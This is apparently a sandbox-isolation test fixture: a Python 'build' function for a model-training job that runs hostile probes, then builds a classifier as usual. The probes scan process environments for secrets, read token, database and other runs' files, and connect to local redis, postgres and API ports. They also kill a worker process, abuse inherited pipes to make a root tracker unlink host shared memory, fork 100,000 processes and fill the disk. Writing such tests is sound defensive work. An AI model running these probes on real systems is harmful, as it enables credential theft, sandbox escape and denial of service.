"""Each attack reports what it got as one line, `HOSTILE {json}`, in rank 0's log: "blocked: <why>"
or what it reached. Then the model is built as usual, so the job can still end well."""

import json
import os
import signal
import socket
import time

from wavesort.build import classifier


def build(params: dict):
    attack, targets = params["attack"], params["targets"]
    if attack == "probe":
        _report(probe(targets))
    elif attack == "fork":
        _report(fork_without_end())
    elif attack == "fill":
        fill_the_disk()
    return classifier({name: params[name] for name in ("channels", "layers", "num_classes")})


def _report(found: dict) -> None:
    print("HOSTILE " + json.dumps(found), flush=True)


def _read(path: str) -> str:
    with open(path) as file:
        return file.read()


def _write(path: str) -> int:
    with open(path, "w") as file:
        return file.write("x")


def _tried(action) -> str:
    try:
        result = action()
    except Exception as error:
        return f"blocked: {type(error).__name__}"
    return f"reached: {str(result)[:200]}"


def probe(targets: dict) -> dict:
    secrets = [targets[name] for name in ("token", "database_url", "redis_url")]
    found = {"environment": _secrets_in_environments(secrets)}
    for name in ("database_file", "token_file", "other_run_dir", "other_checkpoints"):
        path = targets[name]
        found[f"read {name}"] = _tried(lambda path=path: os.listdir(path) if os.path.isdir(path) else _read(path))
    found["list home"] = _beyond_own_folder(targets["home"])
    found["write home"] = _tried(lambda: _write(os.path.join(targets["home"], "pwned")))
    for name, port in (
        ("redis", targets["redis_port"]),
        ("postgres", targets["postgres_port"]),
        ("api", targets["api_port"]),
    ):
        found[f"connect {name}"] = _tried(
            lambda port=port: socket.create_connection(("127.0.0.1", int(port)), 2).close()
        )
    found["signal worker"] = _tried(lambda: os.kill(int(targets["worker_pid"]), signal.SIGTERM))
    found["register with the launcher's resource tracker"] = _through_inherited_pipes(targets["host_shm"])
    return found


def _through_inherited_pipes(shm_name: str) -> str:
    """Ask any pipe it was handed whose other end is outside the sandbox (the launcher's
    resource tracker, root: it unlinks the names registered with it when it exits) to unlink a
    name in the host's /dev/shm. A pipe of which it sees another end (its own, or a process's in
    the sandbox) is the sandbox's own."""
    written = []
    for fd, pipe in _own_pipes().items():
        if not _held_by_another(pipe):
            try:
                os.write(fd, f"REGISTER:/{shm_name}:shared_memory\n".encode())
                written.append(fd)
            except OSError:
                continue
    return f"reached: wrote to {written}" if written else "blocked: no pipe that leads out of the sandbox"


def _own_pipes() -> dict[int, str]:
    pipes = {}
    for name in os.listdir("/proc/self/fd"):
        try:
            link = os.readlink(f"/proc/self/fd/{name}")
        except OSError:
            continue
        if int(name) > 2 and link.startswith("pipe:"):
            pipes[int(name)] = link
    return pipes


def _held_by_another(pipe: str) -> bool:
    """Whether any other descriptor it can see, its own or another process's, is of this pipe."""
    seen = 0
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            descriptors = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in descriptors:
            try:
                seen += os.readlink(f"/proc/{pid}/fd/{fd}") == pipe
            except OSError:  # closed meanwhile (the listing's own descriptor, say)
                continue
    return seen > 1


def _beyond_own_folder(home: str) -> str:
    """What it sees in the worker's home beside the folders on the way to its own slot (its run
    folder, its code, its channel to the launcher)."""
    own = os.path.dirname(os.path.dirname(os.readlink("/proc/self/fd/1")))  # its log's folder's parent
    seen = []
    for root, folders, files in os.walk(home):
        seen += [os.path.join(root, name) for name in files if not os.path.join(root, name).startswith(own)]
        folders[:] = [name for name in folders if own.startswith(os.path.join(root, name)) or root.startswith(own)]
    return f"reached: {seen[:5]}" if seen else "blocked: nothing but the way to its own folder"


def _secrets_in_environments(secrets: list[str]) -> str:
    """Every environment it can read: its own and any process's it can see."""
    seen = [str(dict(os.environ))]
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            seen.append(_read(f"/proc/{pid}/environ"))
        except (OSError, UnicodeDecodeError):
            pass
    leaked = [secret[:12] for secret in secrets if any(secret in text for text in seen)]
    return f"reached: {leaked}" if leaked else "blocked: none of the secrets in any environment it can read"


def fork_without_end() -> dict:
    children = []
    try:
        while len(children) < 100_000:
            pid = os.fork()
            if pid == 0:
                time.sleep(3)
                os._exit(0)
            children.append(pid)
        outcome = f"reached: {len(children)} processes"
    except OSError as error:
        outcome = f"blocked: {type(error).__name__} after {len(children)} processes"
    for pid in children:
        os.waitpid(pid, 0)
    return {"fork": outcome}


def fill_the_disk() -> None:
    """Write into its own run directory (its log's folder) until stopped."""
    folder = os.path.dirname(os.readlink("/proc/self/fd/1"))
    block = b"\0" * (1 << 20)
    for index in range(100_000):
        try:
            with open(os.path.join(folder, f"fill-{index}.bin"), "wb") as file:
                for _ in range(8):
                    file.write(block)
        except OSError as error:
            _report({"fill": f"blocked: {type(error).__name__} after {index} files"})
            time.sleep(60)
        time.sleep(0.01)
